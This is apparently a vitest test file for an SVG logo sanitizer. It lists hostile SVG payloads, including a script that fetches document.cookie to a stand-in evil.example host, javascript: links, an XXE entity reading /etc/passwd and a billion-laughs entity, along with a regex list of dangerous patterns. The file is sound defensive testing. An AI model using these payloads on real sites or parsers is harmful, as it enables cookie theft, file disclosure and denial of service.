import { Window } from 'happy-dom';
import { describe, expect, it } from 'vitest';
import { publication } from '../demo/publication.ts';
import { cleanLogoSvg } from './clean-logo-svg.ts';

// Each hostile sample wraps the same drawing (a circle with id="keep" and a path) around one
// attack; the cleaned logo must keep the drawing and lose the attack.
const DRAWING = '<circle id="keep" cx="5" cy="5" r="4" fill="#b3261e"/><path d="M0 0H10V10Z"/>';
const svg = (inner: string, rootAttrs = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"${rootAttrs}>${DRAWING}${inner}</svg>`;

const HOSTILE: Array<[string, string]> = [
  ['script element', svg('<script>alert(1)</script>')],
  ['script with CDATA', svg('<script><![CDATA[fetch("https://evil.example/?"+document.cookie)]]></script>')],
  ['namespaced script', svg('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>')],
  ['onload on the root', svg('', ' onload="alert(1)"')],
  ['event handler on a shape', svg('<rect width="1" height="1" onclick="alert(1)" ONMOUSEOVER="alert(2)"/>')],
  ['javascript: link', svg('<a href="javascript:alert(1)"><rect width="1" height="1"/></a>')],
  ['xlink javascript: link', svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>')],
  ['entity-encoded javascript: href', svg('<use href="&#106;avascript:alert(1)"/>')],
  ['use of another file', svg('<use href="https://evil.example/sprite.svg#icon"/>')],
  ['use of a data: URI', svg('<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>')],
  ['external image', svg('<image href="https://evil.example/track.png" width="1" height="1"/>')],
  [
    'foreignObject with HTML',
    svg('<foreignObject><iframe src="https://evil.example/"></iframe><div>hi</div></foreignObject>'),
  ],
  [
    'animation rewriting an href',
    svg('<a><set attributeName="href" to="javascript:alert(1)"/><text>y</text></a>'),
  ],
  ['animate element', svg('<animate attributeName="href" values="javascript:alert(1)"/>')],
  ['style element with @import', svg('<style>@import url(https://evil.example/x.css); .a{fill:red}</style>')],
  [
    'style element with an external url()',
    svg('<style>.a{background:url("https://evil.example/t.png")}</style>'),
  ],
  ['style element with escapes', svg('<style>.a{background:u\\72l(https://evil.example/t.png)}</style>')],
  [
    'style attribute with url()',
    svg('<rect width="1" height="1" style="fill:url(https://evil.example/p.svg#g)"/>'),
  ],
  [
    'fill attribute with an external url()',
    svg('<rect width="1" height="1" fill="url(https://evil.example/p.svg#g)"/>'),
  ],
  [
    'filter attribute with an external url()',
    svg('<rect width="1" height="1" filter="url(//evil.example/f.svg#f)"/>'),
  ],
  ['expression() in style', svg('<rect width="1" height="1" style="width:expression(alert(1))"/>')],
  ['iframe', svg('<iframe src="https://evil.example/"></iframe>')],
  [
    'external entity',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${svg('<text>&xxe;</text>')}`,
  ],
  [
    'billion laughs',
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
  ],
  ['closing the root early to add markup after it', svg('</svg><script>alert(1)</script><svg>')],
  ['an unclosed script', svg('<script>alert(1)')],
  ['html in a title', svg('<title><img src=x onerror=alert(1)></title>')],
  ['attribute breaking out of its quotes', svg('<rect width="1&quot; onload=&quot;alert(1)" height="1"/>')],
  [
    'embed and object',
    svg('<object data="https://evil.example/x"></object><embed src="https://evil.example/y"/>'),
  ],
];

/** What must not survive: anything that runs script or fetches from elsewhere. */
const DANGEROUS = [
  /<script/i,
  /javascript:/i,
  /<foreignObject/i,
  /<image/i,
  /<iframe/i,
  /<object|<embed/i,
  /<animate|<set[\s/>]/i,
  /@import/i,
  /url\(\s*['"]?(?!#)/i,
  /href="(?!#)/i,
  /<!ENTITY|<!DOCTYPE/i,
  /expression\(/i,
  /evil\.example/i,
  /\/etc\/passwd/,
];

const xml = new Window().DOMParser;

/** The cleaned logo parses as XML with <svg> at the root (browsers draw /assets/logo.svg as XML). */
function parsesAsSvg(text: string): boolean {
  const doc = new xml().parseFromString(text, 'image/svg+xml');
  return doc.documentElement.localName === 'svg' && doc.getElementsByTagName('parsererror').length === 0;
}

/** Event handler attributes anywhere in the parsed logo (a regex would also match escaped text). */
function handlers(text: string): string[] {
  const doc = new xml().parseFromString(text, 'image/svg+xml');
  return [doc.documentElement, ...Array.from(doc.documentElement.querySelectorAll('*'))].flatMap((el) =>
    Array.from(el.attributes)
      .map((a) => a.name)
      .filter((name) => /^on/i.test(name)),
  );
}

describe('cleanLogoSvg', () => {
  it.each(HOSTILE)('removes the %s and keeps the drawing', (_name, input) => {
    const out = cleanLogoSvg(input);
    for (const pattern of DANGEROUS) expect(out, String(pattern)).not.toMatch(pattern);
    expect(handlers(out)).toEqual([]);
    expect(out).toContain('<circle id="keep" cx="5" cy="5" r="4" fill="#b3261e"/>');
    expect(out).toContain('<path d="M0 0H10V10Z"/>');
    expect(out.startsWith('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"')).toBe(true);
    expect(parsesAsSvg(out)).toBe(true);
    expect(cleanLogoSvg(out)).toBe(out); // cleaning is stable
  });

  it('keeps what logos are made of: gradients and clips referenced by #id, classes in a style sheet, text', () => {
    const logo =
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 20" role="img" aria-label="Daily">' +
      '<defs><linearGradient id="g" x1="0" x2="1"><stop offset="0" stop-color="#000"/><stop offset="1" stop-color="#fff"/></linearGradient>' +
      '<clipPath id="c"><rect width="50" height="20"/></clipPath><path id="p" d="M0 10H100"/></defs>' +
      '<style>.t { font: bold 12px sans-serif; fill: url(#g) } .a > .b { opacity: .5 }</style>' +
      '<g clip-path="url(#c)"><rect class="a" width="100" height="20" fill="url(#g)"/></g>' +
      '<use xlink:href="#p"/><text class="t" x="2" y="14">Daily &amp; Co</text></svg>';
    const out = cleanLogoSvg(logo);
    expect(out).toContain('<stop offset="1" stop-color="#fff"/>');
    expect(out).toContain('fill="url(#g)"');
    expect(out).toContain('clip-path="url(#c)"');
    expect(out).toContain('<use href="#p"/>');
    expect(out).toContain('.t { font: bold 12px sans-serif; fill: url(#g) } .a &gt; .b { opacity: .5 }');
    expect(out).toContain('<text class="t" x="2" y="14">Daily &amp; Co</text>');
    expect(out).toContain('role="img" aria-label="Daily"');
    expect(parsesAsSvg(out)).toBe(true);
  });

  it('leaves the demo publication’s logo drawing the same', () => {
    const out = cleanLogoSvg(publication.logoSvg);
    const shapes = (s: string) => s.match(/<(path|circle|rect|title)\b[^>]*>/g);
    expect(shapes(out)).toEqual(shapes(publication.logoSvg));
    expect(out).toContain('aria-labelledby="ilmara-logo-title"');
  });

  it('gives nothing for input without an <svg> element, and for empty input', () => {
    expect(cleanLogoSvg('')).toBe('');
    expect(cleanLogoSvg('<script>alert(1)</script>')).toBe('');
    expect(cleanLogoSvg('just text')).toBe('');
  });

  it('takes linear time on hostile nesting of unterminated tags', () => {
    // Four times the input takes about four times as long in linear time and sixteen in quadratic.
    // The fastest of three runs of each size is compared, so load from other work on a shared
    // machine falls out of the ratio instead of failing an absolute time limit.
    const hostile = (n: number) => `<svg>${'<g a="'.repeat(2 * n)}${'<!x'.repeat(n)}`;
    const fastest = (input: string) =>
      Math.min(
        ...[1, 2, 3].map(() => {
          const started = performance.now();
          cleanLogoSvg(input);
          return performance.now() - started;
        }),
      );
    const small = hostile(2_500);
    const large = hostile(10_000);
    fastest(small); // warm-up: the first run also compiles the code
    expect(fastest(large) / fastest(small)).toBeLessThan(8);
  });
});
